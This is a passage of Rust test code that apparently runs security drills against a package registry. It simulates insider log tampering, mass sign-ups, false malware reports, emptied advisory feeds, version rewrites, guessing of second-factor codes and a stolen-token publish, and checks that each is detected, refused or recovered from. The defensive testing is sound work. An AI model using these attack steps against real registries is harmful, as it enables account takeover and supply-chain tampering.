    must(&mut play.script, &wheel, &token)?;
    let purl = format!("pkg:pypi/{name}");
    let subject = format!("pypi:{name}");
    let (before, _) = watch(&mut play.script)?;
    play.attack("withholds a project as an operator, serves it again, and deletes every row that tells of it");
    for words in [
        &[
            "admin",
            "quarantine",
            "add",
            &subject,
            "--reason",
            "nothing to see",
        ][..],
        &["admin", "quarantine", "release", &subject],
    ] {
        play.operator(words)?;
    }
    // The next publication takes along what waits for the log.
    let next = Wheel::new(&name, "1.1", "a = 2");
    must(&mut play.script, &next, &token)?;
    play.script.world(World::Insider(Insider::Forget {
        subject: purl.clone(),
    }))?;
    let events = format!("/api/v1/projects/pypi/{name}/events");
    let hidden = !play.script.get(&events)?.text().contains("quarantined");
    play.scene(
        "insider",
        if hidden {
            "finds the registry's own list of events without a trace of it"
        } else {
            "finds it still in the registry's own list of events"
        },
    );
    let (after, entries) = watch(&mut play.script)?;
    let tells = |kind: &str| {
        entries
            .iter()
            .any(|entry| entry.contains(kind) && entry.contains(&purl))
    };
    let known = tells("quarantined") && tells("released") && goes_on(&before, &after, &entries);
    play.control(
        Milestone::Detect,
        "everybody, by the log",
        "who watches the log reads both acts in it, under a root that was signed and that goes on from the one they knew",
        known,
    );
    let (code, out) = play.script.operator(&["doctor"])?;
    let noticed = code != 0 && out.contains("✗ log:");
    play.control(
        Milestone::Detect,
        "the operator, by the doctor",
        "the database is no longer the log that was signed",
        noticed,
    );
    play.attack("has the row of a file stand for other bytes");
    play.script.world(World::Insider(Insider::Swap {
        file: format!("{purl}@1.0?file_name={}", wheel.filename),
        sha256: Sha256::of(b"other bytes").to_hex(),
    }))?;
    let (_, out) = play.script.operator(&["doctor"])?;
    let noticed = out.contains("✗ files-leaves:") || out.contains("✗ identifiers:");
    play.control(
        Milestone::Detect,
        "the operator, by the doctor",
        "the row of the file stands for bytes that its identifier was never claimed for",
        noticed,
    );
    let other = play.script.get(&format!(
        "/files/{}/{}",
        Sha256::of(b"other bytes").to_hex(),
        wheel.filename
    ))?;
    play.control(
        Milestone::Refuse,
        "the registry",
        "bytes that are not in the log are not served",
        !other.good(),
    );
    play.attack("puts the database's log back to what it was, to sign another story from there");
    play.script.world(World::Insider(Insider::SetBack {
        note: before.note.clone(),
    }))?;
    let (_, out) = play.script.operator(&["doctor"])?;
    let noticed = out.contains("was put back to an older state");
    play.control(
        Milestone::Detect,
        "the operator, by the doctor",
        "the log that is served has more than the database",
        noticed,
    );
    let (code, _) = play
        .script
        .operator(&["admin", "token", "create", "--user", "nobody"])?;
    play.control(
        Milestone::Refuse,
        "the registry",
        "it does not start on such a database: nothing is signed a second time",
        !matches!(code, 0 | 2 | 4),
    );
    let (now, entries) = watch(&mut play.script)?;
    play.control(
        Milestone::Restore,
        "everybody, by the log",
        "what is served goes on from all that anybody has seen",
        goes_on(&after, &now, &entries),
    );
    Ok(())
}

fn spam(play: &mut Play<'_>) -> Told<()> {
    play.attack("asks for accounts by the dozen from one network");
    let mut stopped = None;
    for number in 0..30 {
        let mut robot = Visitor::new(&play.script, &format!("robot{number}")).elsewhere(73);
        robot.get(&mut play.script, "/sign-up")?;
        let (name, email) = (robot.name.clone(), robot.email.clone());
        let asked = robot.post(
            &mut play.script,
            "/sign-up",
            &[("user", &name), ("email", &email)],
        )?;
        if asked.status == 429 {
            stopped = Some(number);
            break;
        }
    }
    play.control(
        Milestone::Refuse,
        "the registry",
        "one network is given a few dozen accounts an hour at most",
        stopped.is_some(),
    );
    let mut other = Visitor::new(&play.script, "ann").elsewhere(74);
    other.get(&mut play.script, "/sign-up")?;
    let (name, email) = (other.name.clone(), other.email.clone());
    let asked = other
        .post(
            &mut play.script,
            "/sign-up",
            &[("user", &name), ("email", &email)],
        )?
        .good();
    play.control(
        Milestone::Restore,
        "the registry",
        "people elsewhere can still sign up",
        asked,
    );
    Ok(())
}

fn accused(play: &mut Play<'_>) -> Told<()> {
    let (_, token) = owner(&mut play.script, "ann")?;
    let name = project(&play.script, "popular");
    must(&mut play.script, &Wheel::new(&name, "1.0", "a = 1"), &token)?;
    // A project of a day falls sooner, by the word of somebody trusted.
    play.script.world(World::Turn(9 * 86_400))?;
    play.attack("reports a good project as malware, as several strangers");
    for number in 0..5 {
        let text = "It sends the environment to a server of theirs.";
        report(play, &format!("pkg:pypi/{name}"), text, 80 + number)?;
    }
    let waits = play
        .operator(&["--json", "admin", "report", "list"])?
        .contains(&name);
    play.control(
        Milestone::Detect,
        "the operator, by the queue",
        "the reports wait for somebody's judgement",
        waits,
    );
    let good = installs(&mut play.script, &name, "1.0")?;
    play.control(
        Milestone::Restore,
        "the registry",
        "a crowd of strangers withholds nothing",
        good,
    );
    Ok(())
}

fn poisoned(play: &mut Play<'_>) -> Told<()> {
    let (ann, token) = owner(&mut play.script, "ann")?;
    let name = project(&play.script, "thing");
    must(&mut play.script, &Wheel::new(&name, "1.0", "a = 1"), &token)?;
    let written = |play: &mut Play<'_>, file: &str, body: Vec<u8>| -> Told<String> {
        let change = World::Write {
            name: file.to_owned(),
            body,
        };
        play.script.world(change).map(str::to_owned)
    };
    let good = written(play, "DRILL-2026-15.json", advisory("DRILL-2026-15", &name))?;
    play.operator(&["advisories", "import", "--feed", "drill", &good])?;
    play.attack("empties the feed of advisories");
    let empty = written(play, "empty.json", b"[]".to_vec())?;
    let (code, _) = play
        .script
        .operator(&["advisories", "import", "--feed", "drill", &empty])?;
    play.control(
        Milestone::Refuse,
        "the registry",
        "a feed that lost everything is refused",
        code != 0,
    );
    let cut = written(
        play,
        "cut.json",
        b"{\"id\": \"DRILL-2026-15\", \"affe".to_vec(),
    )?;
    let (code, _) = play
        .script
        .operator(&["advisories", "import", "--feed", "drill", &cut])?;
    play.control(
        Milestone::Refuse,
        "the registry",
        "a feed that is cut off is refused",
        code != 0,
    );
    let page = play
        .script
        .get(&format!("/project/pypi/{name}/1.0/"))?
        .text();
    play.control(
        Milestone::Restore,
        "the registry",
        "what was known is shown as before",
        page.contains("DRILL-2026-15"),
    );
    play.attack("lets the list of breached passwords come empty");
    let mut bob = Visitor::new(&play.script, "bob");
    bob.sign_up(&mut play.script)?;
    let mut home = bob.elsewhere(75);
    let entered = came_in(home.sign_in(&mut play.script, PASSWORD)?);
    let key = came_in(
        ann.elsewhere(76)
            .sign_in_with_passkey(&mut play.script, true)?,
    );
    play.control(
        Milestone::Restore,
        "the registry",
        "nobody is locked out meanwhile",
        entered && key,
    );
    Ok(())
}

fn rewritten(play: &mut Play<'_>) -> Told<()> {
    let (_, token) = owner(&mut play.script, "ann")?;
    let name = project(&play.script, "thing");
    let first = Wheel::new(&name, "1.0", "a = 1");
    must(&mut play.script, &first, &token)?;
    play.attack("publishes other bytes under a version that everybody has");
    let second = Wheel::new(&name, "1.0", "import os");
    let tried = second.publish(&mut play.script, &token)?;
    play.control(
        Milestone::Refuse,
        "the registry",
        "a version that was published is never rewritten",
        tried.refused(),
    );
    let file = play
        .script
        .get(&format!("/files/{}/{}", first.sha256(), first.filename))?;
    play.control(
        Milestone::Restore,
        "the registry",
        "the first bytes are served",
        file.good() && file.body == first.bytes,
    );
    play.attack("deletes the version, to publish it anew");
    let path = format!("/api/v1/projects/pypi/{name}/releases/1.0");
    api(&mut play.script, "DELETE", &path, &token, &Value::Null)?;
    let again = second.publish(&mut play.script, &token)?;
    play.control(
        Milestone::Refuse,
        "the registry",
        "nor once it was deleted",
        again.refused(),
    );
    Ok(())
}

fn build_tool(play: &mut Play<'_>) -> Told<()> {
    let (ann, token) = owner(&mut play.script, "ann")?;
    let (bob, bobs_secret) = somebody_with_codes(&mut play.script, "bob")?;
    let tool = project(&play.script, "buildtool");
    must(
        &mut play.script,
        &Wheel::new(&tool, "1.0", "def build(): pass"),
        &token,
    )?;
    let user = project(&play.script, "user");
    let needs = format!("{tool}==1.0");
    must(
        &mut play.script,
        &Wheel::depending(&user, "1.0", "a = 1", &needs),
        &token,
    )?;
    play.attack("a flaw in the build tool becomes known: what it builds can be changed by whoever shares its cache");
    play.scene(
        "operator",
        "issues the advisory and opens a public incident",
    );
    let out = play.operator(&[
        "advisories",
        "issue",
        &format!("pypi:{tool}"),
        "--summary",
        "Builds can be changed through a shared cache",
        "--affected",
        "1.0",
    ])?;
    let id = out.trim().to_owned();
    let mut warned = true;
    for name in [&tool, &user] {
        warned &= play
            .script
            .get(&format!("/project/pypi/{name}/1.0/"))?
            .text()
            .contains(&id);
    }
    play.control(
        Milestone::Advisory,
        "everybody, by the pages",
        "the tool and what depends on it warn",
        warned,
    );
    let about = format!("pkg:pypi/{tool}");
    let incident = play.operator(&[
        "incident",
        "open",
        "Builds can be changed through a shared cache",
        "--about",
        &about,
        "--public",
    ])?;
    let incident = incident.trim().to_owned();
    play.scene(
        "maintainer",
        "yanks the flawed release: builds that do not pin it stop working until there is a fix",
    );
    let path = format!("/api/v1/projects/pypi/{tool}/releases/1.0/yank");
    api(
        &mut play.script,
        "POST",
        &path,
        &token,
        &json!({"reason": "shared cache"}),
    )?;
    let costs = !installs(&mut play.script, &tool, "1.0")?;
    let pinned = offered(&mut play.script, &tool)?.contains("-1.0-");
    play.control(
        Milestone::Quarantine,
        "the maintainer",
        "nobody is given it unasked, and pinned builds go on",
        costs && pinned,
    );
    play.attack("meanwhile tries the maintainers: a password alone, guessed codes, and a request to recover the account");
    let mut thief = bob.elsewhere(77);
    thief.sign_in(&mut play.script, PASSWORD)?;
    thief.get(&mut play.script, "/sign-in/factor?ways=t")?;
    let mut limited = false;
    let right = software::code(&bobs_secret, play.script.now()).unwrap_or_default();
    for attempt in 0..25 {
        let code = format!("{:06}", 222_222 + attempt);
        if code == right {
            continue;
        }
        let tried = thief.post(
            &mut play.script,
            "/sign-in/factor",
            &[("kind", "totp"), ("code", &code), ("ways", "t")],
        )?;
        if tried.status == 429 {
            limited = true;
            break;
        }
    }
    let outside = !thief.get(&mut play.script, "/account")?.good();
    play.control(
        Milestone::Refuse,
        "the registry",
        "guessed codes are stopped after a few",
        limited && outside,
    );
    api(
        &mut play.script,
        "POST",
        "/api/v1/recovery",
        "",
        &json!({"who": ann.name}),
    )?;
    let told = play.script.mail(&ann.email, "recover")?.is_some();
    play.control(
        Milestone::Detect,
        "the maintainer, by mail",
        "a mail tells of the attempt to recover the account",
        told,
    );
    play.attack("has a maintainer's token after all, and publishes a poisoned fix");
    play.scene(
        "operator",
        "had frozen the project for the time of the incident",
    );
    play.operator(&[
        "incident",
        "freeze",
        &format!("project:pypi:{tool}"),
        "--reason",
        "Only reviewed fixes for now; see /incidents",
    ])?;
    let poisoned = Wheel::new(&tool, "1.1", "import os").publish(&mut play.script, &token)?;
    let said = poisoned.refused() && poisoned.text().contains("Only reviewed fixes");
    play.control(
        Milestone::Refuse,
        "the registry",
        "the stolen token publishes nothing, and is told why",
        said,
    );
    revoke(play, &format!("user:{}", ann.name))?;
    play.operator(&["incident", "unfreeze", &format!("project:pypi:{tool}")])?;
    let fresh = play.operator(&[
        "admin", "token", "create", "--user", &ann.name, "--action", "publish",
    ])?;
    let fixed = Wheel::new(&tool, "1.1", "def build(): return 1")
        .publish(&mut play.script, fresh.trim())?
        .good();
    let offered = installs(&mut play.script, &tool, "1.1")?;
    play.control(
        Milestone::Restore,
        "the maintainer",
        "the fix is published and installed",
        fixed && offered,
    );
    play.operator(&[
        "incident",
        "close",
        &incident,
        "Version 1.1 is not affected.",
    ])?;
    let page = play.script.get(&format!("/incidents/{incident}"))?;
    let holds = page.good() && page.text().contains("Version 1.1 is not affected.");
    play.control(
        Milestone::Advisory,
        "everybody, by the page",
        "the public page tells how it went",
        holds,
    );
    Ok(())
}
